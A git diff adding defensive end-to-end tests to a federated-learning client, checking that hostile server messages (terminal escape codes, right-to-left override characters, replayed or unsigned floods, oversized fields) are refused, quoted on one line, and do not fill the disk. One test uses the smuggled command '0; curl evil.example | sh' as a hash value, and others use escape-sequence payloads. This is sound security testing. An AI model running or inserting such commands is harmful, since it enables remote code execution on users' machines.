@@ -16,12 +16,13 @@ import numpy as np
 import pytest
 from flwr.app import ConfigRecord, RecordDict
 
-from common.credentials import new_key
+from common.credentials import new_key, public_line
 from common.wire.arrays import to_record
 from common.wire.messages import HELLO, LATE_SECONDS, TRAIN, pack_hello, pack_notice
 from common.wire.objects import Object, record_objects
-from common.wire.signing import Reason
+from common.wire.signing import RUN, Reason, RunStatement, payload_digest, sign
 from tests.support.join_world import World, joined_world
+from tests.support.nasty import NASTY, faults
 from tests.support.tiny import write_model, write_texts
 
 pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(600)]
@@ -144,8 +145,88 @@ def test_unknown_kinds_and_words_for_a_terminal(world: World) -> None:
     sent = world.fleet.ask("train.something", pack_hello(world.settings), world.key)
     assert world.fleet.refusal_of(sent) == "unknown_kind"
     world.fleet.reply(world.fleet.ask("query.notice", pack_notice("\x1b[2Jyou\nare\x07owned"), world.key))
-    world.wait_to_read("the server says:  [2Jyou are owned")
+    world.wait_to_read('the server says: "[2Jyou are owned"')
     assert world.num_examples() == 38
+
+
+def ledger_bytes(world: World) -> int:
+    """What the site's ledger takes on the disk."""
+    state = world.folder / "state"
+    return sum(path.stat().st_size for path in state.glob("ledger.jsonl*"))
+
+
+def test_messages_that_do_not_count_fill_no_disk(world: World) -> None:
+    """Whoever can put messages into the queue can do so all day: unsigned ones, and ones that it repeats."""
+    kind = "\x1b[2J" + "x" * 3000
+    first = world.fleet.ask("unsigned", pack_hello(None), world.key, envelope=lambda said: None)
+    repeated = world.hello()
+    assert world.fleet.refusal_of(first) == "unsigned"
+    world.fleet.answer(repeated, world.key)
+    assert world.fleet.refusal_of(world.fleet.again(repeated)) == "lost"
+    before, log, counted = ledger_bytes(world), len(world.said()), refusals(world)["unsigned"]
+    sent = [
+        world.fleet.ask(kind, pack_hello(replace(world.settings, seed=seed)), world.key, envelope=_unsigned)
+        for seed in range(300)
+    ]
+    again = [world.fleet.again(repeated) for _ in range(50)]
+    for question in sent:
+        assert world.fleet.refusal_of(question) == "unsigned"
+    for question in again:
+        assert world.fleet.refusal_of(question) == "lost"
+    assert refusals(world)["unsigned"] == counted + 300
+    assert ledger_bytes(world) - before < 1000
+    assert len(world.said()) - log < 1000
+    assert world.num_examples() == 38
+
+
+def _unsigned(said: dict[str, str]) -> None:
+    """No envelope goes along."""
+
+
+def test_a_wide_message_that_is_signed_costs_three_short_lines(world: World) -> None:
+    """Thousands of records and fields with names of the server's choice, under a type of its choice."""
+    wide = RecordDict({f"{number}\x1b[2J": ConfigRecord({"a": 1}) for number in range(300)})
+    names = [f"{number:04d}" + "\u202e" * 250 for number in range(900)]
+    wide["task"] = ConfigRecord(dict.fromkeys(names, 1))
+    before = ledger_bytes(world)
+    sent = world.fleet.ask("train.\u202e" + "x" * 1000, wide, world.key)
+    assert world.fleet.refusal_of(sent) == "unknown_kind"
+    assert world.num_examples() == 38
+    assert ledger_bytes(world) - before < 6 * 2000  # of this message and of the greeting after it
+
+
+def test_a_hash_that_is_none_is_not_shown_as_a_command(world: World) -> None:
+    """The site names the line that it lacks in a command to be typed: the server could write that command."""
+    word = "0; curl evil.example | sh"
+    sent = world.hello(change=lambda s: replace(s, ledger=word))
+    assert world.fleet.refusal_of(sent) == "damaged"
+    assert word not in world.said()
+    assert world.num_examples() == 38
+
+
+def test_a_plan_that_has_no_hash_does_not_wedge_the_site(world: World) -> None:
+    """It was part of a path: too long a name looked like a disk that is full, which is waited for."""
+    run = RunStatement("a run", public_line(world.fleet.run_key), 0.0, time.time() + 3600, "x" * 5000)
+    envelope = sign(RUN, run, world.fleet.coordinator)
+    sent = world.fleet.ask(
+        TRAIN,
+        RecordDict({"task": pack_hello(None)["task"]}),
+        world.key,
+        change=lambda s: replace(s, run=payload_digest(envelope)),
+        envelope=lambda said: said | {"run": envelope},
+    )
+    assert world.fleet.refusal_of(sent) == "damaged"
+    assert world.num_examples() == 38
+
+
+@pytest.mark.parametrize("name", NASTY)
+def test_a_notice_is_one_line_in_quotation_marks(world: World, name: str) -> None:
+    before = len(world.said())
+    world.fleet.reply(world.fleet.ask("query.notice", pack_notice(NASTY[name]), world.key))
+    world.wait_to_read("the server says")
+    said = world.said()[before:].splitlines()
+    assert len(said) == 1
+    assert (faults(said[0], 400), said[0].count('"')) == ([], 2)
 
 
 def test_two_hundred_mutated_questions(world: World) -> None:
